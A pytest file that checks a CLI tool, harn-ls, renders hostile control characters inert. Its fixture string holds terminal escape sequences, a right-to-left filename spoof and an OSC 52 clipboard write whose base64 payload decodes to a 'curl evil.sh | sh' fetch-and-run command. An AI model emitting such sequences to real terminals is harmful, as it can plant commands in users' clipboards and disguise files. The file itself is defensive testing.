"""The CLI never lets data text drive the terminal: a real `harn-ls` process on a cloned project
whose memory record, fact claim and skill description carry ESC/OSC sequences and bidi overrides."""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

from harn_ls.cli import main as cli

REPO = Path(__file__).resolve().parents[2]
SAMPLE = REPO / "fixtures" / "sample-project"
# clear screen, set the window title, OSC 52 (write the clipboard), a C1 CSI, a right-to-left override
KEY = "evil\x1b]0;owned-key\x07\u202eyek"
ATTACK = "invoice rounding \x1b[2J\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9b31m \u202etxt.exe"


def _run(*args: str) -> bytes:
    proc = subprocess.run([sys.executable, "-m", "harn_ls", *args], capture_output=True, cwd=str(REPO), timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert b"\x1b" not in proc.stderr
    return proc.stdout


def _hostile_project(tmp_path: Path) -> Path:
    proj = tmp_path / "proj"
    shutil.copytree(SAMPLE, proj)
    log = proj / ".harn" / "memory" / "agent" / "notes" / "events.jsonl"
    with open(log, "a", encoding="utf-8") as fh:
        fh.write(json.dumps({"type": "store", "id": "evil-1", "namespace": "agent/notes", "key": KEY,
                             "value": ATTACK, "text": ATTACK, "tags": [], "stored_at": "2026-05-01T00:00:00Z"}) + "\n")
    return proj


def _assert_inert(out: bytes) -> None:
    assert b"\x1b" not in out and b"\x07" not in out
    assert "\u202e".encode() not in out and "\x9b".encode() not in out


def test_recall_text_and_json_print_controls_as_visible_escapes(tmp_path):
    proj = _hostile_project(tmp_path)
    text = _run("recall", str(proj), "invoice rounding", "-k", "20", "--no-cache")
    _assert_inert(text)
    assert b"\\u001b]52;c;" in text and b"\\u202etxt.exe" in text
    raw = _run("recall", str(proj), "invoice rounding", "-k", "20", "--json", "--no-cache")
    _assert_inert(raw)
    hits = orjson.loads(raw)
    hits = hits["results"] if isinstance(hits, dict) else hits
    assert KEY in {h["key"] for h in hits}  # valid JSON that decodes to the original key


def test_show_text_and_markdown_formats_are_inert(tmp_path):
    proj = _hostile_project(tmp_path)
    for fmt in ("text", "md"):
        out = _run("show", str(proj), "harn-state:/memory/agent/notes.md", "--format", fmt, "--no-cache")
        _assert_inert(out)
        assert b"owned" in out


def test_inspect_json_escapes_del_and_c1_also_from_the_state_cache(tmp_path):
    """DEL is ASCII: the output's non-ASCII check alone would miss it. And a warm inspect prints the
    facts from the state cache: they go through the same escaping."""
    proj = tmp_path / "proj"
    shutil.copytree(SAMPLE, proj)
    value = {"asserted_at": "2026-05-06T14:11:02.318Z", "claim": "only ascii \x7f\x7f then", "confidence": 0.5,
             "evidence": [{"kind": "user_input", "ref": "chat"}], "id": "fact_del", "kind": "observation",
             "provenance": {"agent": "t"}, "schema": "harn.fact.v1"}
    with open(proj / ".harn" / "memory" / "project" / "facts" / "events.jsonl", "a", encoding="utf-8") as fh:
        fh.write(json.dumps({"type": "store", "id": "mem-del", "namespace": "project/facts", "key": "fact:del",
                             "value": value, "text": "x", "tags": [], "stored_at": "2026-05-01T00:00:00Z"}) + "\n")
    env_cache = str(tmp_path / "cache")
    outs = []
    for args in (("--no-cache",), (), ()):  # uncached, filling the cache, from the cache
        proc = subprocess.run([sys.executable, "-m", "harn_ls", "inspect", str(proj), "--json", *args],
                              capture_output=True, cwd=str(REPO), timeout=120,
                              env={**os.environ, "HARN_LS_CACHE_DIR": env_cache})
        assert proc.returncode == 0, proc.stderr
        assert b"\x7f" not in proc.stdout and b"\\u007f\\u007f" in proc.stdout
        outs.append(proc.stdout)
    assert outs[0] == outs[1] == outs[2]
    assert "only ascii \x7f\x7f then" in {f["claim"] for f in orjson.loads(outs[2])["facts"]}


@pytest.mark.parametrize("text", ["all ascii \x7f but DEL", "c1 \x9b31m", "bidi \u202etxt", "nel \x85", "safe \u00e9 \u2014"])
def test_json_output_escapes_del_c1_and_bidi_even_when_the_rest_is_ascii(text, monkeypatch):
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="utf-8")
    monkeypatch.setattr(sys, "stdout", stream)
    cli._dump({"claim": text, "n": 1})
    stream.flush()
    out = raw.getvalue()
    _assert_inert(out)
    assert b"\x7f" not in out and "\x85".encode() not in out
    assert orjson.loads(out)["claim"] == text  # still JSON for the same text
    assert ("\u00e9".encode() in out) == ("\u00e9" in text)  # harmless text stays as it is
